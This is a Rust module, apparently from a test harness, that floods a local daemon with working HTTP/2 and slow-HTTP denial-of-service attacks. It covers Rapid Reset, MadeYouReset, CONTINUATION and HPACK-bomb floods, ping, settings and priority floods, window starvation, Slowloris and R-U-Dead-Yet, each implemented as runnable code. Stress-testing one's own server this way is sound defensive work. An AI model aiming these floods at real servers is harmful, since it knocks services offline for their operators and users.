//! Floods of HTTP/2 frames, and HTTP clients that take their time.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RESET, SETTINGS, WINDOW, frame,
    get, integer, literal, opening, request,
};
use crate::daemon::Ports;

/// Connects and begins HTTP/2; what the daemon says is read and thrown away, or left where it is.
async fn begin(http: SocketAddr, settings: &[(u16, u32)], reads: bool) -> io::Result<Two> {
    let (mut read, mut write) = TcpStream::connect(http).await?.into_split();
    write.write_all(&opening(settings)).await?;
    let mut reading = JoinSet::new();
    let mut idle = None;
    match reads {
        true => drop(reading.spawn(async move {
            let mut buffer = vec![0; 64 * 1024];
            while let Ok(1..) = read.read(&mut buffer).await {}
        })),
        false => idle = Some(read),
    }
    Ok(Two { write, _reading: reading, _idle: idle })
}

struct Two {
    write: tokio::net::tcp::OwnedWriteHalf,
    _reading: JoinSet<()>,
    _idle: Option<tokio::net::tcp::OwnedReadHalf>,
}

/// Begins again and again, and each time says what `next` makes of the stream's number until it is thrown out.
async fn flood(ports: Ports, settings: &[(u16, u32)], reads: bool, next: impl Fn(u32) -> Vec<u8>) {
    loop {
        let Ok(mut two) = begin(ports.http, settings, reads).await else {
            sleep(Duration::from_millis(10)).await;
            continue;
        };
        for number in 0..1_000_000 {
            if two.write.write_all(&next(2 * number + 1)).await.is_err() {
                break;
            }
        }
    }
}

/// CVE-2023-44487: requests that are given up at once.
pub(super) async fn rapid_reset(ports: Ports) {
    flood(ports, &[], true, |stream| [request(stream, "/"), frame(RESET, 0, stream, &[0, 0, 0, 8])].concat())
        .await;
}

/// CVE-2025-8671: requests that the server must give up, because what follows on them is wrong.
pub(super) async fn made_you_reset(ports: Ports) {
    flood(ports, &[], true, |stream| [request(stream, "/"), frame(WINDOW, 0, stream, &[0; 4])].concat())
        .await;
}

/// The same by bytes after the end.
pub(super) async fn data_after_the_end(ports: Ports) {
    flood(ports, &[], true, |stream| [request(stream, "/"), frame(DATA, 0, stream, b"more")].concat()).await;
}

/// CVE-2024-27316: a head that never ends.
pub(super) async fn continuation(ports: Ports) {
    let junk = frame(CONTINUATION, 0, 1, &literal("x-junk", &"j".repeat(8000)));
    flood(ports, &[], true, |stream| match stream {
        1 => frame(HEADERS, END_STREAM, 1, &get("/")),
        _ => junk.clone(),
    })
    .await;
}

/// The same with frames of nothing.
pub(super) async fn empty_continuation(ports: Ports) {
    let nothing = frame(CONTINUATION, 0, 1, b"").repeat(100);
    flood(ports, &[], true, |stream| match stream {
        1 => frame(HEADERS, END_STREAM, 1, &get("/")),
        _ => nothing.clone(),
    })
    .await;
}

/// CVE-2019-9515: settings, each to be acknowledged; the acknowledgements are not read.
pub(super) async fn settings(ports: Ports) {
    let many = frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(100);
    flood(ports, &[], false, |_| many.clone()).await;
}

/// CVE-2019-9512: pings, whose answers are not read.
pub(super) async fn pings(ports: Ports) {
    let many = frame(PING, 0, 0, &[7; 8]).repeat(100);
    flood(ports, &[], false, |_| many.clone()).await;
}

/// CVE-2019-9513: streams that are put in another order all the time.
pub(super) async fn priorities(ports: Ports) {
    flood(ports, &[], true, |stream| frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 9]).repeat(100)).await;
}

/// CVE-2019-9518: a body of nothing, for ever.
pub(super) async fn empty_data(ports: Ports) {
    let nothing = frame(DATA, 0, 1, b"").repeat(100);
    flood(ports, &[], true, |stream| match stream {
        1 => frame(HEADERS, END_HEADERS, 1, &get("/")),
        _ => nothing.clone(),
    })
    .await;
}

/// A field is put into the table once and named sixteen thousand times.
pub(super) async fn hpack_bomb(ports: Ports) {
    // A literal that is indexed (RFC 7541 section 6.2.1) ...
    let mut first = vec![0x40];
    first.extend([6].iter().chain(b"x-bomb"));
    first.extend(integer(4000, 7));
    first.extend_from_slice(&[b'b'; 4000]);
    flood(ports, &[], true, |stream| {
        let fields = match stream {
            1 => [get("/"), first.clone()].concat(),
            // ... and stands at the beginning of the dynamic table: 62.
            _ => [get("/"), vec![0x80 | 62; 15_000]].concat(),
        };
        frame(HEADERS, END_STREAM | END_HEADERS, stream, &fields)
    })
    .await;
}

/// CVE-2019-9511 and -9517: large answers are asked for through windows that stay shut, or open by one byte.
pub(super) async fn shut_windows(ports: Ports) {
    let mut held = Vec::new();
    for number in 0..20 {
        let Ok(mut two) = begin(ports.http, &[(4, number % 2)], false).await else { continue };
        for stream in 0..100 {
            let _ = two.write.write_all(&request(2 * stream + 1, "/large")).await;
        }
        held.push(two);
    }
    loop {
        for two in &mut held {
            let _ = two.write.write_all(&frame(WINDOW, 0, 1, &[0, 0, 0, 1])).await;
        }
        sleep(Duration::from_millis(50)).await;
    }
}

/// So many connections do the same thing slowly, each again when it is thrown out.
async fn slowly(ports: Ports, first: &'static [u8], then: &'static [u8]) {
    let mut clients = JoinSet::new();
    for _ in 0..200 {
        clients.spawn(async move {
            loop {
                let Ok(mut stream) = TcpStream::connect(ports.http).await else { continue };
                let _ = stream.write_all(first).await;
                while !then.is_empty() && stream.write_all(then).await.is_ok() {
                    sleep(Duration::from_millis(200)).await;
                }
                sleep(Duration::from_secs(1)).await;
            }
        });
    }
    clients.join_all().await;
}

/// Slowloris.
pub(super) async fn slow_heads(ports: Ports) {
    slowly(ports, b"GET / HTTP/1.1\r\nHost: web\r\n", b"X").await;
}

/// R-U-Dead-Yet.
pub(super) async fn slow_bodies(ports: Ports) {
    slowly(ports, b"POST / HTTP/1.1\r\nHost: web\r\nContent-Length: 1000000\r\n\r\n", b"x").await;
}

/// Nobody reads what was asked for.
pub(super) async fn slow_readers(ports: Ports) {
    slowly(ports, b"GET /large HTTP/1.1\r\nHost: web\r\n\r\n", b"").await;
}
